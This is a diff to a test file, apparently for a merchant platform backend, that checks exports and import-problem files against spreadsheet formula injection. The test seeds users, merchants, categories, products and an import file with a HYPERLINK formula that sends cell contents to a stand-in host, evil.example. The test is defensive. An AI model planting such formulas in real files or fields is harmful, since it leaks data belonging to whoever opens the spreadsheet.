@@ -13,6 +13,8 @@ let cast: Cast;
 let scene: Scene;
 
 const FORMULA = `=HYPERLINK("http://evil.example?"&A1,"هنا")`;
+/** A file of a merchant in which every cell is one. */
+const FILE = Buffer.from(`title\n${`"${FORMULA.replaceAll('"', '""')}"\n`.repeat(3)}`);
 
 /** What people, shops, goods and sections are called is a formula. */
 beforeAll(async () => {
@@ -21,7 +23,8 @@ beforeAll(async () => {
     with people as (update users set name = ${FORMULA}),
          merchants as (update merchants set name_ar = ${FORMULA}, legal_name = ${FORMULA}, activity = ${FORMULA}),
          shelf as (update categories set name_ar = ${FORMULA}),
-         problems as (insert into import_problems (import_id, row_number, column_key, value, reason) values (${scene.importId}, 1, 'title', ${FORMULA}, 'title_missing'))
+         file as (insert into import_files (import_id, bytes) values (${scene.importId}, ${FILE})),
+         problems as (insert into import_problems (import_id, row_number, column_key, value, reason) values (${scene.importId}, 2, 'title', ${FORMULA}, 'title_missing'))
     update products set title = ${FORMULA}, description = ${FORMULA}`);
 });
 
@@ -67,6 +70,7 @@ describe('no text of anybody runs in the spreadsheet of whoever opens it', () =>
       '/api/web/merchant/export',
       '/api/web/back-office/product-imports/:importId/problems-file',
       '/api/web/back-office/products-export',
+      '/api/web/back-office/product-import-template',
     ]);
   });
 });
